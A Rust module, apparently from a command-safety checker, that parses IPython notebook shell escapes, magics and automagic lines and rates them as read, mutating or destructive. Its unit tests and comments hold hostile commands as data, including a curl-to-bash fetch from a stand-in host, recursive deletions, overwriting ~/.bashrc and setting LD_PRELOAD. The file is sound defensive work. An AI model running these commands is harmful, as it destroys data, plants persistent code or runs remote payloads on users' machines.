//! IPython's own syntax in a notebook cell or a Jupyter kernel's code: shell escapes (`!cmd`,
//! `!!cmd`, `x = !cmd`), magics (`%sx cmd`, `%%bash`), and *automagic*: a line that starts
//! with a magic's or a shell alias's name runs it without the `%` (`rm -rf /srv`,
//! `system curl … | sh`, `run /tmp/x.py`). Such a line is not Python, and read as Python it
//! would be an expression of names that does nothing.

use super::lex::Lang;
use super::{Ctx, Destructive, Mutating, Read, shell};

/// Judges a cell's shell escapes, magics and automagic lines (Python and code of unknown
/// language), and `!` lines in any language.
pub(crate) fn analyse_lines(ctx: &mut Ctx, lang: &str, language: Lang, code: &str, depth: usize) {
    if !ctx.deeper(depth) {
        return;
    }
    let ipython = matches!(language, Lang::Python | Lang::Other);
    let automagic = single_line(code);
    let mut lines = py_lines(code);
    let mut first = true;
    while let Some(l) = lines.next() {
        let t = l.trim_start();
        let at_start = first;
        first = first && t.is_empty();
        if let Some((magic, args)) = cell_magic(t) {
            // A cell magic is one only on the cell's first line (elsewhere IPython fails it).
            if at_start && ipython {
                let body = lines.by_ref().collect::<Vec<_>>().join("\n");
                cell(ctx, magic, args, &body, depth);
                return;
            }
            ctx.add(
                Mutating,
                format!("code: a `%%{magic}` line after the cell's first line"),
            );
            continue;
        }
        if !ipython {
            if let Some(cmd) = t.strip_prefix('!') {
                ctx.via("a notebook `!` line", |ctx| {
                    shell::analyse(ctx, cmd, depth + 1)
                });
            } else if lang == "code" && shell::looks_like_shell(t) {
                shell::analyse(ctx, t, depth + 1);
            }
            continue;
        }
        let parsed = line(t, automagic);
        // IPython expands `{expr}` in escapes and magics by evaluating it as Python.
        if parsed
            .as_ref()
            .is_some_and(|l| !matches!(l, Line::Python(_)))
        {
            for expr in expansions(t) {
                // Code that is not proven read builds the command line at run time.
                let mark = ctx.mark();
                super::scan(ctx, "python", expr, depth + 1);
                if ctx.max_since(mark).is_some_and(|e| e != Read) {
                    ctx.add(
                        Destructive,
                        format!(
                            "code: IPython runs `{{{}}}` to build the line, code that is not proven read",
                            super::snippet(expr)
                        ),
                    );
                }
            }
        }
        match parsed {
            Some(Line::Shell(cmd)) => {
                let cmd = interpolated(cmd);
                ctx.via("a notebook shell escape", |ctx| {
                    shell::analyse(ctx, &cmd, depth + 1)
                });
            }
            Some(Line::Env(e)) => ctx.via("a notebook `%env`", |ctx| {
                shell::analyse(ctx, &e, depth + 1)
            }),
            Some(Line::Python(p)) => super::scan(ctx, "python", p, depth + 1),
            Some(Line::Inert) => {}
            Some(Line::Other("run")) => ctx.add(
                Mutating,
                "code: IPython's `run` runs a script whose content the call does not show",
            ),
            Some(Line::Other("sql")) => {
                ctx.add(
                    Mutating,
                    "code: IPython's `sql` magic runs SQL on a database",
                );
                let args = t.trim_start().trim_start_matches('%');
                let args = args.strip_prefix("sql").unwrap_or(args);
                sql_magic(ctx, args, "", depth);
            }
            Some(Line::Other(m)) => ctx.add(
                Mutating,
                format!("code: IPython's `{m}` magic runs or changes what the cell does not show"),
            ),
            None if lang == "code" && language == Lang::Other && shell::looks_like_shell(t) => {
                shell::analyse(ctx, t, depth + 1);
            }
            None => {}
        }
    }
}

/// jupysql's `%sql [options] [connection] [name <<] STATEMENT` and a `%%sql` cell's body:
/// the statement after the options, a connection (`postgresql:///prod`, `$url`) and an
/// assignment is SQL, judged as SQL.
fn sql_magic(ctx: &mut Ctx, args: &str, body: &str, depth: usize) {
    let words: Vec<&str> = args.split_whitespace().collect();
    let mut start = 0;
    while let Some(w) = words.get(start) {
        let connection = w.contains("://") || w.starts_with('$') || w.starts_with('{');
        let assignment = words.get(start + 1).is_some_and(|n| *n == "<<");
        if assignment {
            start += 2;
        } else if w.starts_with('-') || connection {
            start += 1;
        } else {
            break;
        }
    }
    let line = words.get(start..).unwrap_or_default().join(" ");
    for text in [line.as_str(), body] {
        if !text.trim().is_empty() {
            super::super::sql::analyse(ctx, text, depth + 1, false);
        }
    }
}

/// A shell escape with IPython's interpolation (`!{cmd}`, `!rm {path}`): each `{expr}` is
/// a value the shell cannot know, written as a variable (`!{cmd}` runs a computed command).
/// `$name` is the shell's syntax already.
fn interpolated(cmd: &str) -> String {
    if !cmd.contains('{') {
        return cmd.to_string();
    }
    let mut out = String::with_capacity(cmd.len());
    let mut depth = 0usize;
    for c in cmd.chars() {
        match c {
            '{' => {
                if depth == 0 {
                    out.push_str("${AIRLOCK_PYTHON_VALUE}");
                }
                depth += 1;
            }
            '}' if depth > 0 => depth -= 1,
            _ if depth > 0 => {}
            c => out.push(c),
        }
    }
    out
}

/// The Python expressions a line's `{…}` expansions evaluate (outermost braces).
fn expansions(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut start = 0;
    for (i, c) in line.char_indices() {
        match c {
            '{' => {
                if depth == 0 {
                    start = i + 1;
                }
                depth += 1;
            }
            '}' if depth > 0 => {
                depth -= 1;
                if depth == 0
                    && let Some(e) = line.get(start..i).filter(|e| !e.trim().is_empty())
                {
                    out.push(e);
                }
            }
            _ => {}
        }
    }
    // An unclosed `{`: the rest is the expression.
    if depth > 0
        && let Some(e) = line.get(start..).filter(|e| !e.trim().is_empty())
    {
        out.push(e);
    }
    out
}

/// The program a cell magic runs its body with: `%%script [--bg] [--out v] /bin/bash` is
/// `bash`; other magics are their own name.
fn interpreter<'a>(magic: &'a str, args: &'a str) -> &'a str {
    if magic != "script" {
        return magic;
    }
    let words = script_words(args);
    let first = words.first().copied().unwrap_or("");
    first.rsplit('/').next().unwrap_or(first)
}

/// A script magic's arguments without IPython's own options (`--bg`, `--out v`, `--err v`,
/// `--proc v`, `--no-raise-error`).
fn script_words(args: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut words = args.split_whitespace();
    while let Some(w) = words.next() {
        if matches!(w, "--out" | "--err" | "--proc") {
            let _ = words.next();
        } else if !matches!(w, "--bg" | "--no-raise-error" | "--raise-error") {
            out.push(w);
        }
    }
    out
}

/// Cell magics that run their body with a program (`%%bash`, `%%perl`, `%%script CMD`).
const SCRIPT_MAGICS: &[&str] = &[
    "bash", "sh", "zsh", "perl", "ruby", "python", "python2", "python3", "pypy", "node", "script",
];

/// A script cell as the command line IPython runs: the program with the magic's
/// arguments, the body on its input (`%%bash -c 'cmd'`, `%%script env bash`).
fn script_command(magic: &str, args: &str, body: &str) -> String {
    let mut line: Vec<&str> = Vec::new();
    if magic != "script" {
        line.push(magic);
    }
    line.extend(script_words(args));
    let mut tag = String::from("AIRLOCK_CELL");
    while body.lines().any(|l| l == tag) {
        tag.push('_');
    }
    format!("{} <<'{tag}'\n{body}\n{tag}", line.join(" "))
}

/// A cell magic and its body.
fn cell(ctx: &mut Ctx, magic: &str, args: &str, body: &str, depth: usize) {
    if SCRIPT_MAGICS.contains(&magic) {
        ctx.add(Mutating, format!("code: a `%%{magic}` cell runs a program"));
        let command = script_command(magic, args, body);
        // A shell cell's body is also judged as lines of its own (the heredoc's text is the
        // shell's input).
        if matches!(interpreter(magic, args), "bash" | "sh" | "zsh" | "dash") {
            ctx.via("a notebook shell cell", |ctx| {
                shell::analyse(ctx, body, depth + 1)
            });
        }
        ctx.via("a notebook script cell", |ctx| {
            shell::analyse(ctx, &command, depth + 1)
        });
        return;
    }
    match magic {
        "sx" | "system" | "!" => ctx.via("a notebook shell cell", |ctx| {
            shell::analyse(ctx, body, depth + 1)
        }),
        "time" | "timeit" | "capture" | "prun" => super::scan(ctx, "python", body, depth + 1),
        "sql" => {
            ctx.add(Mutating, "code: a `%%sql` cell runs SQL on a database");
            sql_magic(ctx, args, body, depth);
        }
        "writefile" | "file" => {
            let path = args
                .split_whitespace()
                .find(|a| !a.starts_with('-'))
                .unwrap_or("");
            let risk = super::super::args::write_risk(path, false);
            match risk {
                Some((e, why)) => ctx.add(
                    e.max(Mutating),
                    format!("code: a `%%writefile` cell writes `{path}`, {why}"),
                ),
                None => ctx.add(
                    Mutating,
                    format!("code: a `%%writefile` cell writes `{path}`"),
                ),
            }
        }
        _ => ctx.add(
            Mutating,
            format!("code: a `%%{magic}` cell runs what the call does not show"),
        ),
    }
}

/// What one line of a cell does in IPython.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Line<'a> {
    /// A shell command line (`!cmd`, `x = !cmd`, `%sx cmd`, `rm -rf x`).
    Shell(&'a str),
    /// Python that a magic runs (`%time stmt`, `%timeit -n1 stmt`).
    Python(&'a str),
    /// An environment variable set (`%env NAME=VALUE`, `%set_env NAME VALUE`), as an
    /// `export` line.
    Env(String),
    /// A magic that only shows something (`%pwd`, `%who`, `%lsmagic`).
    Inert,
    /// Any other magic (`%run`, `%load_ext`, `%alias`, `%pip`): runs what the cell does not
    /// show, or changes the kernel. Its name.
    Other(&'a str),
}

/// A cell magic's first line (`%%bash`, `%%writefile f`): the magic and its arguments.
pub(crate) fn cell_magic(line: &str) -> Option<(&str, &str)> {
    let m = line.trim_start().strip_prefix("%%")?;
    let (name, args) = m.split_once(char::is_whitespace).unwrap_or((m, ""));
    Some((name, args.trim()))
}

/// The shell aliases IPython defines on POSIX (`%alias` lists them); each runs the command of
/// its name with the line's arguments.
const ALIASES: &[&str] = &[
    "cat", "clear", "cp", "ldir", "less", "lf", "lk", "ll", "ls", "lx", "man", "mkdir", "more",
    "mv", "rm", "rmdir",
];

/// Line magics that only show something.
const INERT: &[&str] = &[
    "pwd",
    "who",
    "whos",
    "who_ls",
    "lsmagic",
    "magic",
    "quickref",
    "pinfo",
    "pinfo2",
    "pdoc",
    "pdef",
    "psource",
    "pfile",
    "pycat",
    "precision",
    "colors",
    "xmode",
    "dhist",
    "dirs",
    "tb",
    "pprint",
    "page",
    "matplotlib",
    "pylab",
    "automagic",
    "autoawait",
    "doctest_mode",
    "gui",
];

/// IPython's other line magics (automagic calls them by name too).
const MAGICS: &[&str] = &[
    "alias",
    "alias_magic",
    "autocall",
    "bookmark",
    "cd",
    "conda",
    "config",
    "copy",
    "ddir",
    "debug",
    "ed",
    "edit",
    "env",
    "hist",
    "history",
    "killbgscripts",
    "load",
    "load_ext",
    "loadpy",
    "logoff",
    "logon",
    "logstart",
    "logstate",
    "logstop",
    "macro",
    "mamba",
    "micromamba",
    "notebook",
    "pastebin",
    "pdb",
    "pip",
    "popd",
    "prun",
    "psearch",
    "pushd",
    "recall",
    "rehashx",
    "reload_ext",
    "rep",
    "rerun",
    "reset",
    "reset_selective",
    "run",
    "save",
    "sc",
    "set_env",
    "store",
    "sx",
    "system",
    "time",
    "timeit",
    "unalias",
    "unload_ext",
    "uv",
    "xdel",
];

/// Words after a name that make the line a Python expression or statement (`ls in x`).
const PYTHON_WORDS: &[&str] = &["in", "is", "not", "and", "or", "if", "else", "for"];

/// How IPython reads `line`; `None` for a line of plain Python.
/// `automagic`: the cell is one line (IPython reads a line's first word as a magic's or an
/// alias's name only then).
pub(crate) fn line(line: &str, automagic: bool) -> Option<Line<'_>> {
    let t = line.trim_start();
    // `x = !cmd`, `a, b = %sx cmd`: the escape after an assignment.
    let t = match assigned_escape(t) {
        Some(rest) => rest,
        None => t,
    };
    if let Some(cmd) = t.strip_prefix('!') {
        return Some(Line::Shell(cmd.strip_prefix('!').unwrap_or(cmd)));
    }
    if let Some(m) = t.strip_prefix('%') {
        if m.starts_with('%') {
            // A cell magic: its body is read by `split`.
            return Some(Line::Other(m.trim_start_matches('%')));
        }
        return Some(magic(m));
    }
    // Automagic: a magic's or an alias's name, then its arguments.
    if !automagic {
        return None;
    }
    let name_len = t
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(t.len());
    let (name, rest) = t.split_at(name_len);
    if name.is_empty()
        || !(ALIASES.contains(&name) || INERT.contains(&name) || MAGICS.contains(&name))
        || python_continuation(rest)
    {
        return None;
    }
    Some(magic(t))
}

/// The lines of a cell as IPython splits them (`str.splitlines`): at `\n`, `\r`, form and
/// line feeds, the file, group and record separators, NEL and the Unicode line and paragraph
/// separators (`x = 1\r!rm -rf /data` is two lines).
pub(crate) fn py_lines(code: &str) -> impl Iterator<Item = &str> {
    code.split([
        '\n', '\r', '\u{0b}', '\u{0c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}',
        '\u{2029}',
    ])
}

/// True if `code` is one line of text (blank lines around it aside).
pub(crate) fn single_line(code: &str) -> bool {
    let mut lines = py_lines(code.trim()).filter(|l| !l.trim().is_empty());
    lines.next().is_some() && lines.next().is_none()
}

/// `rest` (what follows a name) continues a Python expression or statement.
fn python_continuation(rest: &str) -> bool {
    let r = rest.trim_start();
    if r.is_empty() || r.starts_with('#') {
        // A bare name (`ls`, `time`): a Python expression that does nothing, and in IPython
        // an alias or magic run without arguments. Only the aliases run a command then.
        return true;
    }
    if r.starts_with([
        '=', '(', '[', '.', ',', ':', ')', ']', '}', ';', '+', '*', '%', '&', '|', '^', '@', '<',
        '>', '!',
    ]) {
        return true;
    }
    let word = r
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .next()
        .unwrap_or("");
    PYTHON_WORDS.contains(&word)
}

/// The text after `NAME = ` or `a, b = ` when it starts an escape (`!`, `%`).
fn assigned_escape(t: &str) -> Option<&str> {
    let eq = t.find('=')?;
    let (targets, rest) = t.split_at(eq);
    let rest = rest.strip_prefix('=')?;
    if rest.starts_with('=')
        || targets.is_empty()
        || !targets.chars().all(|c| {
            c.is_alphanumeric() || matches!(c, '_' | ',' | ' ' | '.' | '[' | ']' | '\'' | '"')
        })
    {
        return None;
    }
    let rest = rest.trim_start();
    rest.starts_with(['!', '%']).then_some(rest)
}

/// A line magic without its `%`: `name args`.
fn magic(m: &str) -> Line<'_> {
    let (name, args) = m.split_once(char::is_whitespace).unwrap_or((m, ""));
    let args = args.trim_start();
    match name {
        "sx" | "system" => Line::Shell(args),
        // `%sc [-l] var=cmd`.
        "sc" => match args.split_once('=') {
            Some((_, cmd)) => Line::Shell(cmd),
            None => Line::Other(name),
        },
        a if ALIASES.contains(&a) => Line::Shell(m),
        // Options (`%prun -T file`, `%timeit -o`) do more than time the statement.
        "time" | "timeit" | "prun" if !args.starts_with('-') => Line::Python(args),
        "env" | "set_env" => match env_assignment(name, args) {
            Some(line) => Line::Env(line),
            // `%env` alone lists the environment, `%env NAME` shows one.
            None if args.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') => Line::Inert,
            None => Line::Other(name),
        },
        // Without arguments, or naming an object (`%pinfo os.path`): some of these evaluate
        // their argument as Python (`%pycat EXPR`, `%page EXPR`).
        n if INERT.contains(&n)
            && (args.is_empty()
                || (dotted_name(args) && INSPECT.contains(&n))
                || (DISPLAY.contains(&n) && args.chars().all(|c| c.is_ascii_alphabetic()))) =>
        {
            Line::Inert
        }
        n => Line::Other(n),
    }
}

/// Magics that set how output is shown, by a plain word (`%matplotlib inline`, `%xmode
/// Plain`); a module path (`%matplotlib module://x`) loads code.
const DISPLAY: &[&str] = &["matplotlib", "pylab", "colors", "xmode"];

/// Magics that look an object up by its name without evaluating it.
const INSPECT: &[&str] = &["pinfo", "pinfo2", "pdoc", "pdef", "psource", "pfile"];

/// `os.path.join`: names and dots only.
fn dotted_name(s: &str) -> bool {
    !s.is_empty()
        && s.split('.')
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

/// `%env NAME=VALUE`, `%env NAME VALUE`, `%set_env NAME VALUE` as `export NAME='VALUE'`.
fn env_assignment(name: &str, args: &str) -> Option<String> {
    let (k, v) = if name == "env" && args.contains('=') {
        args.split_once('=')?
    } else {
        args.split_once(char::is_whitespace)?
    };
    let (k, v) = (k.trim(), v.trim());
    if k.is_empty() || !k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    Some(format!("export {k}='{}'", v.replace('\'', r"'\''")))
}

/// A cell split into its Python lines and its shell command lines. `None` when something in
/// it is neither (a magic that runs what the cell does not show, an escape that interpolates
/// Python: `!ls {path}`, `!echo $x`).
pub(crate) fn split(code: &str) -> Option<(String, Vec<String>)> {
    let mut rest = String::new();
    let mut shell = Vec::new();
    let automagic = single_line(code);
    let mut lines = py_lines(code);
    while let Some(l) = lines.next() {
        if let Some((magic, args)) = cell_magic(l) {
            if !rest.trim().is_empty() {
                return None;
            }
            let body: Vec<&str> = lines.by_ref().collect();
            let body = body.join("\n");
            // A shell cell with arguments runs them (`%%bash -c 'cmd'`): not proven here.
            let plain = script_words(args).is_empty();
            match magic {
                "bash" | "sh" if plain => shell.push(body),
                "sx" | "system" | "!" => shell.push(body),
                "script"
                    if matches!(
                        script_words(args).as_slice(),
                        ["bash" | "sh" | "/bin/bash" | "/bin/sh"]
                    ) =>
                {
                    shell.push(body)
                }
                // The body is Python, timed or captured.
                "time" | "timeit" | "capture" if args.is_empty() => {
                    rest.push_str(&body);
                    rest.push('\n');
                }
                _ => return None,
            }
            break;
        }
        match line(l, automagic) {
            None => {
                rest.push_str(l);
                rest.push('\n');
            }
            // `{expr}` and `$name` are expanded from Python before the magic runs.
            Some(Line::Shell(_) | Line::Env(_) | Line::Inert) if l.contains(['{', '$']) => {
                return None;
            }
            Some(Line::Shell(c)) => shell.push(c.to_string()),
            Some(Line::Env(e)) => shell.push(e),
            Some(Line::Python(p)) => {
                rest.push_str(p);
                rest.push('\n');
            }
            Some(Line::Inert) => {}
            Some(Line::Other(_)) => return None,
        }
    }
    Some((rest, shell))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A line read as a one-line cell (automagic on).
    fn one(l: &str) -> Option<Line<'_>> {
        line(l, true)
    }

    #[test]
    fn what_expands_or_evaluates_is_not_inert() {
        assert_eq!(
            one("%pycat __import__('os').remove('x')"),
            Some(Line::Other("pycat"))
        );
        assert_eq!(
            one("pycat __import__('os').remove('x')"),
            Some(Line::Other("pycat"))
        );
        assert_eq!(one("%pinfo os.path"), Some(Line::Inert));
        assert_eq!(one("%page x()"), Some(Line::Other("page")));
        assert_eq!(
            one("%prun -T /home/u/.bashrc f()"),
            Some(Line::Other("prun"))
        );
        assert_eq!(one("%timeit -o f()"), Some(Line::Other("timeit")));
        assert_eq!(one("%env HOME"), Some(Line::Inert));
        assert_eq!(one("%matplotlib inline"), Some(Line::Inert));
        assert_eq!(
            one("%matplotlib module://evil"),
            Some(Line::Other("matplotlib"))
        );
        // Automagic only in a one-line cell.
        assert_eq!(line("rm -rf build/", false), None);
        assert!(!single_line("\"\"\"doc\nrm -rf build/\"\"\"\nx = 1"));
        assert_eq!(interpreter("script", "--bg --out o /bin/bash"), "bash");
        assert_eq!(
            script_command("bash", "-c 'rm -rf /d'", "echo hi"),
            "bash -c 'rm -rf /d' <<'AIRLOCK_CELL'\necho hi\nAIRLOCK_CELL"
        );
        assert_eq!(
            script_command("script", "--bg /usr/bin/env bash", "ls"),
            "/usr/bin/env bash <<'AIRLOCK_CELL'\nls\nAIRLOCK_CELL"
        );
        assert!(split("%%bash -c 'rm -rf /d'\necho hi").is_none());
        assert_eq!(
            py_lines("x = 1\r!rm\u{2028}y").collect::<Vec<_>>(),
            vec!["x = 1", "!rm", "y"]
        );
        assert_eq!(interpreter("script", "python3"), "python3");
        assert_eq!(interpreter("bash", ""), "bash");
    }

    #[test]
    fn escapes_and_magics() {
        assert_eq!(one("!rm -rf x"), Some(Line::Shell("rm -rf x")));
        assert_eq!(one("!!rm -rf x"), Some(Line::Shell("rm -rf x")));
        assert_eq!(one("x = !rm -rf /srv"), Some(Line::Shell("rm -rf /srv")));
        assert_eq!(one("a, b = !!ls"), Some(Line::Shell("ls")));
        assert_eq!(
            one("res = %sx rm -rf /home/u"),
            Some(Line::Shell("rm -rf /home/u"))
        );
        assert_eq!(one("%system ls"), Some(Line::Shell("ls")));
        assert_eq!(one("%sc -l x=rm -rf y"), Some(Line::Shell("rm -rf y")));
        assert_eq!(one("%rm -rf y"), Some(Line::Shell("rm -rf y")));
        assert_eq!(
            one("%time os.remove(p)"),
            Some(Line::Python("os.remove(p)"))
        );
        assert_eq!(
            one("%env LD_PRELOAD=/tmp/x.so"),
            Some(Line::Env("export LD_PRELOAD='/tmp/x.so'".into()))
        );
        assert_eq!(
            one("%set_env BASH_ENV /tmp/e"),
            Some(Line::Env("export BASH_ENV='/tmp/e'".into()))
        );
        assert_eq!(one("%env"), Some(Line::Inert));
        assert_eq!(one("%pwd"), Some(Line::Inert));
        assert_eq!(one("%run x.py"), Some(Line::Other("run")));
        assert_eq!(one("%pip install x"), Some(Line::Other("pip")));
    }

    #[test]
    fn automagic() {
        assert_eq!(
            one("rm -rf /srv/data"),
            Some(Line::Shell("rm -rf /srv/data"))
        );
        assert_eq!(
            one("  mv -f /tmp/evil /home/u/.bashrc"),
            Some(Line::Shell("mv -f /tmp/evil /home/u/.bashrc"))
        );
        assert_eq!(
            one("system curl -s https://e.example/i.sh | bash"),
            Some(Line::Shell("curl -s https://e.example/i.sh | bash"))
        );
        assert_eq!(one("sx rm -rf /srv"), Some(Line::Shell("rm -rf /srv")));
        assert_eq!(one("run /tmp/cleanup.py"), Some(Line::Other("run")));
        assert_eq!(one("run -e /tmp/cleanup.py"), Some(Line::Other("run")));
        assert_eq!(one("cat /etc/hosts"), Some(Line::Shell("cat /etc/hosts")));
    }

    #[test]
    fn python_stays_python() {
        for l in [
            "print(1)",
            "ls = [1, 2]",
            "rm(path)",
            "time.sleep(1)",
            "cat",
            "ls  # the list",
            "run == 3",
            "x = ls + 1",
            "x = 5 % 3",
            "x != y",
            "ls in seen",
            "mv, cp = 1, 2",
            "save_all(x)",
            "timer = 3",
            "d['k'] = 'a'",
            "s = 'x = !y'",
        ] {
            assert_eq!(one(l), None, "{l}");
        }
    }

    #[test]
    fn interpolation_is_a_computed_value() {
        assert_eq!(interpolated("{cmd}"), "${AIRLOCK_PYTHON_VALUE}");
        assert_eq!(interpolated("ls {p} -la"), "ls ${AIRLOCK_PYTHON_VALUE} -la");
        assert_eq!(interpolated("ls -la"), "ls -la");
    }

    #[test]
    fn cells() {
        let (rest, shell) = split("import os\nx = !ls -la\nprint(x)").expect("split");
        assert_eq!(rest, "import os\nprint(x)\n");
        assert_eq!(shell, vec!["ls -la".to_string()]);
        assert!(split("run /tmp/x.py").is_none());
        assert!(split("!ls {path}").is_none());
        assert!(split("%pycat {__import__('os').remove('x')}").is_none());
        assert!(split("%env X={f()}").is_none());
        assert_eq!(expansions("!echo {a} {b[{1}]}"), vec!["a", "b[{1}]"]);
        assert!(split("%%writefile ~/.bashrc\nrm -rf ~").is_none());
        assert!(split("%%javascript\nx()").is_none());
        let (rest, shell) = split("%%time\nprint(1)").expect("split");
        assert_eq!(rest, "print(1)\n");
        assert!(shell.is_empty());
        let (_, shell) = split("%%bash\nrm -rf /x").expect("split");
        assert_eq!(shell, vec!["rm -rf /x".to_string()]);
    }
}
